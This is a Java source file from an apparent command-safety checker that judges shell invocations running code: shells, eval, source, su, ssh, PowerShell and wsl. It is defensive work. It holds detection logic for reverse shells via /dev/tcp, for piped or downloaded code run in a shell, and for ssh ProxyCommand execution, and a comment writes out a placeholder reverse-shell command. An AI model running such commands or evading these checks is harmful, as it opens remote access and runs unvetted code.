package dev.cmdai.safety.judge;

import static dev.cmdai.safety.judge.Findings.shown;

import dev.cmdai.safety.parse.posix.Piece.Output;
import dev.cmdai.safety.parse.posix.Pipeline;
import dev.cmdai.safety.parse.posix.Pipeline.Redirect;
import dev.cmdai.safety.parse.posix.Pipeline.SimpleCommand;
import dev.cmdai.safety.parse.posix.Word;
import dev.cmdai.safety.rules.Rule;
import java.util.List;

/**
 * Judges commands that run code: what they run is judged where it can be read, and named where not.
 */
final class CodeRules {
  private final PosixJudge scripts;
  private final Findings findings;
  private final InterpreterRules interpreters;

  CodeRules(PosixJudge scripts, Findings findings) {
    this.scripts = scripts;
    this.findings = findings;
    interpreters = new InterpreterRules(this, scripts, findings);
  }

  /** Whether the command is one that runs code. */
  boolean judge(Call call, Feed feed) {
    switch (call.name()) {
      case "sh",
          "bash",
          "zsh",
          "dash",
          "ash",
          "ksh",
          "mksh",
          "fish",
          "rbash",
          "yash",
          "csh",
          "tcsh",
          "nu",
          "elvish",
          "xonsh" ->
          shell(call, feed);
      case "eval" -> eval(call);
      case "source", "." -> source(call, feed);
      case "trap" -> {
        if (!call.arguments().isEmpty()) {
          scripts.judgeScript(call.firstArgument());
        }
      }
      case "alias", "abbr" -> alias(call);
      case "su", "sg" -> optionScript(call);
      case "runuser" -> {
        optionScript(call);
        if (call.texts().contains("-u")) {
          remainder(call, "uglGw", 0, feed);
        }
      }
      case "script" -> optionScript(call);
      case "watch", "viddy", "hwatch" -> remainder(call, "nd", 0, feed);
      case "ssh", "autossh", "mosh", "dbclient" ->
          remainder(call, "bcDEeFIiJLlmMOopQRSWw", 1, feed);
      case "pwsh", "powershell" -> powerShell(call, feed);
      case "cmd" -> CmdJudge.nested(call.texts(), findings);
      case "wsl" -> scripts.judgeScript(Wrapper.joined(withoutFirstOptions(call.arguments())));
      default -> {
        return interpreters.judge(call, feed);
      }
    }
    return true;
  }

  private static List<Word> withoutFirstOptions(List<Word> arguments) {
    int i = 0;
    while (i < arguments.size() && arguments.get(i).text().startsWith("-")) {
      boolean isValued =
          switch (arguments.get(i).text()) {
            case "-d", "--distribution", "-u", "--user" -> true;
            default -> false;
          };
      i += isValued ? 2 : 1;
    }
    return arguments.subList(Math.min(i, arguments.size()), arguments.size());
  }

  private void shell(Call call, Feed feed) {
    openShell(call, feed);
    List<Word> arguments = call.arguments();
    boolean isScript = false;
    int i = 0;
    while (i < arguments.size()) {
      String text = arguments.get(i).text();
      if (text.length() < 2 || (text.charAt(0) != '-' && text.charAt(0) != '+')) {
        break;
      }
      if (text.startsWith("--command=")) {
        code(arguments.get(i).withText(text.substring("--command=".length())), List.of());
        return;
      }
      boolean isShort = text.charAt(1) != '-';
      isScript |= text.equals("--command") || (isShort && text.indexOf('c') > 0);
      boolean isValued = isShort && (text.endsWith("o") || text.endsWith("O"));
      if (text.equals("--rcfile") || text.equals("--init-file")) {
        isValued = true;
        if (i + 1 < arguments.size()) {
          runFile(arguments.get(i + 1), List.of(), feed);
        }
      }
      if (text.equals("-s")) {
        i = arguments.size();
      }
      i += isValued ? 2 : 1;
    }
    if (i >= arguments.size() || arguments.get(i).text().equals("-")) {
      input(call.name(), feed);
    } else if (isScript) {
      List<String> rest = call.texts().subList(Math.min(i + 2, arguments.size()), arguments.size());
      code(arguments.get(i), rest);
    } else {
      runFile(arguments.get(i), call.texts().subList(i + 1, arguments.size()), feed);
    }
  }

  /** {@code bash -i >& /dev/tcp/HOST/PORT 0>&1}: the shell is somebody else's. */
  private void openShell(Call call, Feed feed) {
    for (Redirect redirect : feed.redirects()) {
      String target = redirect.target().text();
      if (target.startsWith("/dev/tcp/") || target.startsWith("/dev/udp/")) {
        findings.add(
            Rule.NETWORK_SHELL, "connects " + call.name() + " to " + shown(target.substring(9)));
      }
    }
    boolean isFromNetwork =
        !feed.source().isEmpty()
            && NetworkRules.isRaw(CommandJudge.program(feed.source().getFirst()));
    if (isFromNetwork) {
      findings.add(Rule.NETWORK_SHELL, "runs in " + call.name() + " what comes over a connection");
    }
  }

  /** A script that is given as a word. */
  private void code(Word word, List<String> arguments) {
    unknown(word);
    if (arguments.isEmpty()) {
      scripts.judgeScript(word.text());
    } else {
      scripts.judgeScript(word.text(), arguments);
    }
  }

  void unknown(Word word) {
    if (PosixJudge.isDownloaded(word)) {
      findings.add(Rule.CODE_DOWNLOADED, "runs code from the network that nobody has looked at");
    } else if (word.hasUnknown()
        && !isSetup(word)
        && (!word.text().contains(" ") || isVariable(word))) {
      findings.add(
          Rule.CODE_UNKNOWN,
          "runs " + shown(word.text()) + ": what that is shows only when it runs");
    }
  }

  /** {@code eval "$(TOOL init SHELL)"}: how many tools ask to be set up. */
  private static boolean isSetup(Word word) {
    List<Output> outputs = word.outputs();
    if (outputs.size() != 1 || outputs.getFirst().body().size() != 1) {
      return false;
    }
    List<Pipeline.Node> stages = outputs.getFirst().body().getFirst().stages();
    if (stages.size() != 1 || !(stages.getFirst() instanceof SimpleCommand command)) {
      return false;
    }
    for (Word part : command.words()) {
      switch (CommandJudge.program(part)) {
        case "init",
            "hook",
            "shellenv",
            "activate",
            "completion",
            "env",
            "ssh-agent",
            "dircolors",
            "docker-env",
            "--alias",
            "lesspipe",
            "gpg-agent" -> {
          return true;
        }
        default -> {}
      }
    }
    return false;
  }

  private static boolean isVariable(Word word) {
    return word.text().startsWith("$") || word.text().startsWith("what the pipe");
  }

  /** A script that is given as a file, or as the output of a command that looks like one. */
  void runFile(Word word, List<String> arguments, Feed feed) {
    String content = scripts.fileContent(word);
    if (content != null && findings.repeat()) {
      scripts.judgeScript(content, arguments);
    }
    if (scripts.files().isDownload(word.text())) {
      findings.add(
          Rule.CODE_DOWNLOADED,
          "runs " + shown(word.text()) + ", which it downloads, before anybody has looked at it");
    } else if (!word.outputs().isEmpty()) {
      unknown(word);
    } else if (word.text().equals("/dev/stdin") || word.text().equals("/proc/self/fd/0")) {
      input("the shell", feed);
    }
  }

  /** A script that is read from standard input. */
  private void input(String reader, Feed feed) {
    String text = feed.text();
    if (text != null) {
      scripts.judgeScript(text);
    }
    for (Redirect redirect : feed.redirects()) {
      if (redirect.operator().startsWith("<<")) {
        unknown(redirect.target());
        return;
      }
      if (redirect.operator().equals("<")) {
        runFile(redirect.target(), List.of(), Feed.NONE);
        return;
      }
    }
    if (!feed.isPiped()) {
      return;
    }
    if (feed.isDownload()) {
      findings.add(
          Rule.CODE_DOWNLOADED,
          "runs in " + reader + " what it downloads, before anybody has looked at it");
    } else {
      findings.add(Rule.CODE_PIPED, "runs in " + reader + " what the pipe brings");
    }
  }

  private void eval(Call call) {
    if (call.arguments().size() == 1 && isSetup(call.arguments().getFirst())) {
      return;
    }
    for (Word word : call.arguments()) {
      unknown(word);
    }
    scripts.judgeScript(Wrapper.joined(call.arguments()));
  }

  private void alias(Call call) {
    for (Word word : call.arguments()) {
      int sign = word.text().indexOf('=');
      if (sign > 0) {
        scripts.judgeScript(word.text().substring(sign + 1));
      }
    }
  }

  private void source(Call call, Feed feed) {
    if (!call.arguments().isEmpty()) {
      runFile(call.arguments().getFirst(), List.of(), feed);
    }
  }

  /** {@code su USER -c CODE}, and others that take code the same way. */
  void optionScript(Call call) {
    List<Word> arguments = call.arguments();
    for (int i = 0; i < arguments.size(); i++) {
      String text = arguments.get(i).text();
      boolean isShort = text.length() > 1 && text.charAt(0) == '-' && text.charAt(1) != '-';
      if (text.startsWith("--command=")) {
        code(arguments.get(i).withText(text.substring("--command=".length())), List.of());
      } else if (i + 1 < arguments.size()
          && ((isShort && text.endsWith("c")) || text.equals("--command"))) {
        code(arguments.get(i + 1), List.of());
      }
    }
  }

  /** Commands that join their last arguments and hand them to a shell. */
  private void remainder(Call call, String valued, int operands, Feed feed) {
    List<Word> arguments = call.arguments();
    int i = 0;
    int toSkip = operands;
    while (i < arguments.size()) {
      String option = arguments.get(i).text();
      if (option.equals("--")) {
        i++;
        continue;
      }
      if (!option.startsWith("-")) {
        if (toSkip == 0) {
          break;
        }
        toSkip--;
        i++;
        continue;
      }
      boolean isValued = option.length() == 2 && valued.indexOf(option.charAt(1)) >= 0;
      if (isValued && option.equals("-o") && i + 1 < arguments.size()) {
        proxy(arguments.get(i + 1).text());
      }
      i += isValued ? 2 : 1;
    }
    if (i < arguments.size()) {
      scripts.judgeScript(Wrapper.joined(arguments.subList(i, arguments.size())));
    } else if (operands == 1 && feed.isGiven()) {
      String text = feed.text();
      if (text != null) {
        scripts.judgeScript(text);
      } else {
        findings.add(Rule.CODE_UNKNOWN, "runs what comes in as code on another machine");
      }
    }
    Secrets.judge(call, feed, findings);
    Effects.judge(call.name(), call.texts(), findings);
  }

  /** {@code ssh -o ProxyCommand=CODE} runs the code here. */
  private void proxy(String option) {
    int sign = option.indexOf('=');
    boolean isCommand = option.startsWith("ProxyCommand") || option.startsWith("LocalCommand");
    if (isCommand && sign > 0) {
      scripts.judgeScript(option.substring(sign + 1));
    }
  }

  private void powerShell(Call call, Feed feed) {
    List<Word> arguments = call.arguments();
    if (arguments.isEmpty()) {
      input(call.name(), feed);
      return;
    }
    new PowerShellJudge(findings).nested(call.texts());
  }
}
